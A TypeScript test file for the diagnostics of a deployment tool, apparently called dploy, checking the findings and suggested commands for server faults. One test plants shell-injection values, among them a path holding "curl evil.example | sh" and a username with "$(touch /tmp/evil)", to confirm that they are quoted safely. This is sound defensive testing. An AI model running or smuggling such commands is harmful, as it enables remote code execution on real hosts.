import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { describe, test } from 'node:test'
import type { Diagnosis } from '../../protocol/diagnosis.ts'
import { errorTable } from '../../protocol/errors.ts'
import { examine } from './examine.ts'
import type { EnvironmentFacts, ServerFacts } from './facts.ts'

const GB = 1_000_000_000
const healthy: Diagnosis = {
  current: 7,
  service: { state: 'running', release: 7 },
  directory: { path: '/srv/shop', nearest: '/srv/shop', problem: null },
  disks: [
    { path: '/srv/shop', freeBytes: 50 * GB, totalBytes: 100 * GB, freeInodes: 1e6, totalInodes: 2e6 },
    { path: '/var/lib/dploy', freeBytes: 9 * GB, totalBytes: 20 * GB, freeInodes: 5e5, totalInodes: 6e5 },
  ],
  release: { bytes: 20_000_000, files: 500 },
  user: { name: 'root', uid: 0, sudo: true },
  platform: 'linux-x64',
  glibc: '2.36',
  ports: [{ port: 3000, owner: { pid: 77, command: 'node server.js', user: 'www-data', ours: true } }],
  keepAlive: { port: 3000, ms: 75_000, announced: true },
}
const now = 1_800_000_000_000

function facts(changes: {
  diagnosis?: Partial<Diagnosis>
  server?: Partial<ServerFacts>
  environment?: Partial<EnvironmentFacts>
  asks?: Partial<EnvironmentFacts['asks']>
}): EnvironmentFacts {
  const server = (name: string): ServerFacts => ({
    name,
    address: null,
    joined: true,
    connected: true,
    idle: false,
    lastSeenAt: now,
    lockedAt: null,
    clockSkew: 12,
    diagnosis: healthy,
    problem: null,
  })
  const web2 = { ...server('web2'), diagnosis: { ...healthy, ...changes.diagnosis }, ...changes.server }
  return {
    application: 'shop',
    environment: 'production',
    now,
    wanted: 7,
    sshConfig: null,
    controlPlatform: 'linux-x64',
    balancerProblem: null,
    secretsProblem: null,
    takenOver: null,
    ...changes.environment,
    asks: {
      builds: true,
      manager: 'auto',
      user: null,
      balancer: { kind: 'haproxy', address: ['unix:/run/haproxy.sock'], backend: ['shop'] },
      ...changes.asks,
    },
    servers: [server('web1'), web2],
  }
}

test('nothing is found where nothing is wrong', () => {
  assert.deepEqual(examine(facts({})), [])
})

const user = { name: 'deploy', uid: 1000, sudo: false }
const cases: {
  what: string
  given: Parameters<typeof facts>[0]
  code: keyof typeof errorTable
  severity?: 'warning'
  says: RegExp
  next: RegExp
}[] = [
  {
    what: 'no agent ever joined',
    given: { server: { joined: false, connected: false, diagnosis: null, clockSkew: null } },
    code: 'server.unreachable',
    says: /No agent has joined/,
    next: /^dploy server add web2$/,
  },
  {
    what: 'two machines with its key',
    given: { server: { connected: false, diagnosis: null, clockSkew: null, lockedAt: now - 60_000 } },
    code: 'agent.key_cloned',
    says: /Two machines hold its key/,
    next: /^dploy server rotate-key web2$/,
  },
  {
    what: 'a full disk, which keeps the agent from being placed',
    given: {
      server: {
        connected: false,
        diagnosis: null,
        clockSkew: null,
        problem: { code: 'server.disk_full', message: 'The disk of web2 is full', fix: '' },
      },
    },
    code: 'server.disk_full',
    says: /full/,
    next: /^ssh web2 df -h \/var\/lib\/dploy \/var\/lib \.$/,
  },
  {
    what: 'its agent is gone',
    given: {
      server: {
        connected: false,
        diagnosis: null,
        clockSkew: null,
        lastSeenAt: now - 200_000,
        address: 'deploy@10.0.0.5:2222',
      },
    },
    code: 'server.unreachable',
    says: /3 min 20 s ago/,
    next: /^ssh -p 2222 deploy@10\.0\.0\.5 systemctl status dploy-agent$/,
  },
  {
    what: 'a changed host key',
    given: {
      server: {
        connected: false,
        diagnosis: null,
        clockSkew: null,
        problem: {
          code: 'ssh.host_key_changed',
          message: 'web2 shows another host key',
          fix: "Find out why. If it was installed anew: ssh-keygen -f /home/anna/.ssh/known_hosts -R '[web2]:22'",
        },
      },
    },
    code: 'ssh.host_key_changed',
    says: /another host key/,
    next: /^ssh-keygen -f \/home\/anna\/\.ssh\/known_hosts -R '\[web2\]:22'$/,
  },
  {
    what: 'a closed port',
    given: {
      server: {
        connected: false,
        diagnosis: null,
        clockSkew: null,
        problem: {
          code: 'ssh.refused',
          message: 'Nothing listens on port 22',
          fix: 'Check that sshd runs there, and the port in its address. Then: ssh -p 22 web2',
        },
      },
    },
    code: 'ssh.refused',
    says: /Nothing listens/,
    next: /^ssh -p 22 web2$/,
  },
  {
    what: 'its agent does not answer',
    given: {
      server: { diagnosis: null, problem: { code: 'connection.closed', message: 'The connection ended', fix: '' } },
    },
    code: 'connection.closed',
    says: /ended/,
    next: /^ssh web2 journalctl/,
  },
  {
    what: 'a clock 40 minutes ahead, and everything else hidden by it',
    given: {
      server: {
        clockSkew: 2_400_000,
        diagnosis: null,
        problem: { code: 'command.refused', message: 'expired', fix: '' },
      },
    },
    code: 'server.clock_skew',
    says: /40 min 0 s ahead .* refuses commands/,
    next: /^ssh -t web2 sudo timedatectl set-ntp true$/,
  },
  {
    what: 'a clock 40 minutes behind',
    given: { server: { clockSkew: -2_400_000 } },
    code: 'server.clock_skew',
    says: /40 min 0 s behind/,
    next: /timedatectl/,
  },
  {
    what: 'a clock 45 seconds off',
    given: { server: { clockSkew: 45_000 } },
    code: 'server.clock_skew',
    severity: 'warning',
    says: /45\.0 s/,
    next: /timedatectl/,
  },
  {
    what: 'no room',
    given: { diagnosis: { disks: [{ ...healthy.disks[0]!, freeBytes: 5_000_000 }] } },
    code: 'server.disk_full',
    says: /5\.0 MB left; .* needs 100 MB/,
    next: /^dploy exec production --on web2 -- du -xhd1 \/srv\/shop$/,
  },
  {
    what: 'no room for a release as large as this one',
    given: { diagnosis: { release: { bytes: GB, files: 1 }, disks: [{ ...healthy.disks[0]!, freeBytes: GB }] } },
    code: 'server.disk_full',
    says: /needs 1\.2 GB/,
    next: /du/,
  },
  {
    what: 'little room',
    given: { diagnosis: { disks: [{ ...healthy.disks[0]!, freeBytes: GB }] } },
    code: 'server.disk_full',
    severity: 'warning',
    says: /1\.0 GB of 100 GB/,
    next: /du/,
  },
  {
    what: 'no room for the agent itself',
    given: { diagnosis: { disks: [healthy.disks[0]!, { ...healthy.disks[1]!, freeBytes: 10 }] } },
    code: 'server.disk_full',
    says: /\/var\/lib\/dploy/,
    next: /du/,
  },
  {
    what: 'no inodes',
    given: { diagnosis: { disks: [{ ...healthy.disks[0]!, freeInodes: 20 }] } },
    code: 'server.inodes_full',
    says: /20 more files/,
    next: /du --inodes/,
  },
  {
    what: 'a read-only file system',
    given: { diagnosis: { directory: { path: '/srv/shop', nearest: '/srv', problem: 'EROFS' } } },
    code: 'server.not_writable',
    says: /read-only/,
    next: /findmnt -T \/srv$/,
  },
  {
    what: 'a directory of somebody else',
    given: {
      diagnosis: {
        user: { ...user, sudo: true },
        directory: { path: '/srv/shop', nearest: '/srv', problem: 'EACCES' },
      },
    },
    code: 'server.not_writable',
    says: /cannot be written by deploy/,
    next: /^ssh -t web2 sudo install -d -o deploy \/srv\/shop$/,
  },
  {
    what: 'what somebody else deployed before',
    given: {
      diagnosis: {
        user: { ...user, sudo: true },
        directory: { path: '/srv/shop', nearest: '/srv/shop', problem: 'EACCES' },
      },
    },
    code: 'server.not_writable',
    says: /cannot be written by deploy/,
    next: /^ssh -t web2 sudo chown -R deploy \/srv\/shop$/,
  },
  {
    what: 'another application',
    given: {
      diagnosis: {
        directory: {
          path: '/srv/shop',
          nearest: '/srv/shop',
          problem: null,
          foreign: { application: 'blog', environment: 'live', release: 9 },
        },
      },
    },
    code: 'server.directory_taken',
    says: /holds release 9 of blog in live; give shop a directory of its own/,
    next: /^dploy exec production --on web2 -- ls -l \/srv\/shop$/,
  },
  {
    what: 'a file in the way',
    given: { diagnosis: { directory: { path: '/srv/shop', nearest: '/srv/shop', problem: 'ENOTDIR' } } },
    code: 'server.not_writable',
    says: /no directory/,
    next: /ls -ld/,
  },
  {
    what: 'an immutable directory',
    given: { diagnosis: { directory: { path: '/srv/shop', nearest: '/srv/shop', problem: 'EPERM' } } },
    code: 'server.not_writable',
    says: /not even by root/,
    next: /lsattr/,
  },
  {
    what: 'a taken port',
    given: { diagnosis: { ports: [{ port: 3000, owner: { pid: 9, command: 'apache2', user: 'root', ours: false } }] } },
    code: 'server.port_taken',
    says: /Port 3000 is taken by process 9 of root: apache2/,
    next: /ps -fp 9$/,
  },
  {
    what: 'a port taken by nobody knows whom',
    given: {
      diagnosis: {
        ports: [
          {
            port: 3000,
            owner: { pid: null, command: 'a process that this agent may not see', user: 'www-data', ours: false },
          },
        ],
      },
    },
    code: 'server.port_taken',
    says: /may not see, of www-data/,
    next: /--sudo -- ss/,
  },
  {
    what: 'no sudo, for systemd',
    given: { diagnosis: { user }, asks: { manager: 'systemd' } },
    code: 'server.no_sudo',
    says: /deploy, who may not use sudo/,
    next: /^ssh -t web2 'echo '\\''deploy ALL=\(ALL:ALL\) NOPASSWD: ALL'\\'' \| sudo install -m 440 \/dev\/stdin \/etc\/sudoers\.d\/dploy'$/,
  },
  {
    what: 'no sudo, for another user',
    given: { diagnosis: { user }, asks: { user: 'www-data' } },
    code: 'server.no_sudo',
    says: /service\.user is www-data/,
    next: /sudoers\.d\/dploy'$/,
  },
  {
    what: 'an architecture that no runtime is for',
    given: { diagnosis: { platform: 'linux-riscv64' } },
    code: 'server.wrong_architecture',
    says: /riscv64/,
    next: /uname/,
  },
  {
    what: 'another architecture than the builds',
    given: { diagnosis: { platform: 'linux-arm64' } },
    code: 'server.wrong_architecture',
    severity: 'warning',
    says: /linux-arm64, and builds are made on linux-x64/,
    next: /uname/,
  },
  {
    what: 'an old libc',
    given: { diagnosis: { glibc: '2.17' } },
    code: 'server.libc_too_old',
    says: /glibc 2\.17.*2\.28/,
    next: /os-release/,
  },
  {
    what: 'a short keep-alive',
    given: { diagnosis: { keepAlive: { port: 3000, ms: 5_000, announced: false } } },
    code: 'service.keep_alive_short',
    says: /closes connections that are idle for 5\.0 s; haproxy keeps them for 10\.0 s/,
    next: /^dploy exec production --on web2 -- bash -c 'exec 3<>\/dev\/tcp\/127\.0\.0\.1\/3000;.* time cat <&3'$/,
  },
  {
    what: 'a keep-alive that is short for nginx',
    given: {
      diagnosis: { keepAlive: { port: 3000, ms: 20_000, announced: true } },
      asks: { balancer: { kind: 'nginx' } as EnvironmentFacts['asks']['balancer'] },
    },
    code: 'service.keep_alive_short',
    says: /announces that it closes .* nginx keeps them for 60\.0 s/,
    next: /time cat/,
  },
  {
    what: 'a keep-alive that is short for AWS',
    given: {
      diagnosis: { keepAlive: { port: 3000, ms: 30_000, announced: true } },
      asks: { balancer: { kind: 'aws' } as EnvironmentFacts['asks']['balancer'] },
    },
    code: 'service.keep_alive_short',
    says: /aws keeps them for 60\.0 s/,
    next: /time cat/,
  },
  {
    what: 'another release',
    given: { diagnosis: { current: 6 } },
    code: 'server.drifted',
    says: /Release 6 serves, and release 7 is wanted/,
    next: /^dploy converge production$/,
  },
  {
    what: 'no release',
    given: { diagnosis: { current: null, service: null } },
    code: 'server.drifted',
    says: /No release serves/,
    next: /^dploy converge production$/,
  },
  {
    what: 'a stopped service',
    given: { diagnosis: { service: { state: 'stopped', release: null } } },
    code: 'server.drifted',
    says: /its service is stopped/,
    next: /^dploy logs production --on web2$/,
  },
  {
    what: 'processes of an older release',
    given: { diagnosis: { service: { state: 'running', release: 5 } } },
    code: 'server.drifted',
    says: /processes of release 5/,
    next: /^dploy converge production$/,
  },
]

describe('one thing is wrong with web2, and that is what is found', () => {
  for (const { what, given, code, severity = 'error', says, next } of cases) {
    test(what, () => {
      const findings = examine(facts(given))
      assert.deepEqual(
        findings.map((finding) => [finding.server, finding.code, finding.severity]),
        [['web2', code, severity]],
      )
      assert.match(findings[0]!.message, says)
      assert.match(findings[0]!.next, next)
    })
  }
})

test('the balancer and the secrets are of the whole environment', () => {
  const findings = examine(
    facts({
      environment: {
        balancerProblem: {
          code: 'balancer.unknown_server',
          message: 'The backend shop has no server web2',
          fix: '',
          where: 'unix:/run/haproxy.sock',
        },
        secretsProblem: { code: 'secret.missing', message: 'DATABASE_URL is not set', fix: '' },
      },
    }),
  )
  assert.deepEqual(
    findings.map(({ server, code, next }) => [server, code, next]),
    [
      [null, 'balancer.unknown_server', 'echo "show servers state" | socat stdio /run/haproxy.sock'],
      [null, 'secret.missing', 'dploy secret list production'],
    ],
  )
})

test('who may not write the directory and may not become root either is told both: one of them mends it', () => {
  const findings = examine(
    facts({ diagnosis: { user, directory: { path: '/srv/shop', nearest: '/srv', problem: 'EACCES' } } }),
  )
  assert.deepEqual(
    findings.map(({ code }) => code),
    ['server.no_sudo', 'server.not_writable'],
  )
})

test('what is long enough for the others is short for Caddy', () => {
  const behind = (kind: string) =>
    examine(facts({ asks: { balancer: { kind } as EnvironmentFacts['asks']['balancer'] } })).map(({ server, code }) => [
      server,
      code,
    ])
  assert.deepEqual(behind('caddy'), [
    ['web1', 'service.keep_alive_short'],
    ['web2', 'service.keep_alive_short'],
  ])
  // Nobody knows of these, or they keep none.
  for (const kind of ['haproxy', 'nginx', 'aws', 'builtin', 'command', 'none']) assert.deepEqual(behind(kind), [], kind)
})

test('two paths on one full disk are one finding', () => {
  const full = { ...healthy.disks[0]!, freeBytes: 10 }
  assert.equal(examine(facts({ diagnosis: { disks: [full, { ...full, path: '/var/lib/dploy' }] } })).length, 1)
})

describe('the next command', () => {
  const next = (given: Parameters<typeof facts>[0]) => examine(facts(given)).at(-1)!.next
  const gone = { connected: false, diagnosis: null, clockSkew: null, lastSeenAt: now - 1_000 }

  test('names a server as ssh takes it, with the configuration that dploy was given', () => {
    assert.equal(
      next({ server: { ...gone, address: '[2001:db8::1]:2222' } }),
      'ssh -p 2222 2001:db8::1 systemctl status dploy-agent',
    )
    assert.equal(next({ server: { ...gone, address: '2001:db8::1' } }), 'ssh 2001:db8::1 systemctl status dploy-agent')
    assert.equal(
      next({ server: gone, environment: { sshConfig: '/home/anna/my config' } }),
      "ssh -F '/home/anna/my config' web2 systemctl status dploy-agent",
    )
  })

  test('asks the balancer at the address that the problem is with, however it is reached', () => {
    const at = (
      balancer: object,
      where: string,
      code: 'balancer.unreachable' | 'balancer.unknown_server' = 'balancer.unknown_server',
    ) =>
      next({
        environment: { balancerProblem: { code, message: '', fix: '', where } },
        asks: { balancer: balancer as EnvironmentFacts['asks']['balancer'] },
      })
    assert.equal(
      at(
        { kind: 'haproxy', address: ['unix:/run/one.sock', 'tcp:10.0.0.2:9999'] },
        'tcp:10.0.0.2:9999',
        'balancer.unreachable',
      ),
      "bash -c 'exec 3<>/dev/tcp/10.0.0.2/9999 && echo open'",
    )
    assert.equal(
      at(
        { kind: 'haproxy', address: ['unix:/run/one.sock', 'tcp:10.0.0.2:9999'] },
        'unix:/run/one.sock',
        'balancer.unreachable',
      ),
      'ls -l /run/one.sock',
    )
    assert.equal(
      at({ kind: 'haproxy', address: ['unix:/run/one.sock', 'tcp:10.0.0.2:9999'] }, 'tcp:10.0.0.2:9999'),
      'echo "show servers state" | socat stdio tcp-connect:10.0.0.2:9999',
    )
    assert.equal(
      at({ kind: 'caddy', address: ['tcp:10.0.0.2:2020'] }, 'tcp:10.0.0.2:2020'),
      'curl -sS http://10.0.0.2:2020/config/',
    )
    assert.equal(
      at({ kind: 'caddy', address: ['unix:/run/caddy/admin.sock'] }, 'somewhere'),
      'curl -sS --unix-socket /run/caddy/admin.sock http://localhost/config/',
    )
  })

  test('is one command, whatever a server says of itself', () => {
    const evil = "/srv/x; curl evil.example | sh #'\n\u001b[2K"
    const words = (line: string) =>
      execFileSync('sh', ['-c', `for word in ${line.replace(/^(dploy|ssh) /, '')}; do printf '%s\\n' "$word"; done`], {
        encoding: 'utf8',
      })
        .trimEnd()
        .split('\n')
    const full = words(next({ diagnosis: { disks: [{ ...healthy.disks[0]!, freeBytes: 10, path: evil }] } }))
    assert.deepEqual(full, [
      'exec',
      'production',
      '--on',
      'web2',
      '--',
      'du',
      '-xhd1',
      "/srv/x; curl evil.example | sh #'??[2K",
    ])
    const owner = words(
      next({
        diagnosis: {
          user: { name: 'x$(touch /tmp/evil)', uid: 1, sudo: true },
          directory: { path: evil, nearest: '/', problem: 'EACCES' },
        },
      }),
    )
    assert.deepEqual(owner.slice(0, 2), ['-t', 'web2'])
    // What the shell there gets is one word here, and takes it apart into these.
    assert.deepEqual(words(owner[2]!), [
      'sudo',
      'install',
      '-d',
      '-o',
      'x$(touch /tmp/evil)',
      "/srv/x; curl evil.example | sh #'??[2K",
    ])
  })
})
